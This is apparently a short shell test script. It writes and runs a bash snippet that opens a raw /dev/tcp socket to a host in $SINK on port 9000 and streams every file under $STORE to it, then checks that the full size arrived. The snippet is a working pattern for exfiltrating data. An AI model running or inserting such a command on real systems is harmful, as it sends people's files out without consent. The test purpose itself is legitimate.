. "$(dirname "$0")/../lib/check.sh"
cat > "$WORK/g.bash" <<'B'
exec 3<>"/dev/tcp/$SINK/9000"
find "$STORE" -type f | while read -r r; do cat "$r" >&3; done
B
bash "$WORK/g.bash"
arrived "$WORK/got" "$(size "$STORE")"
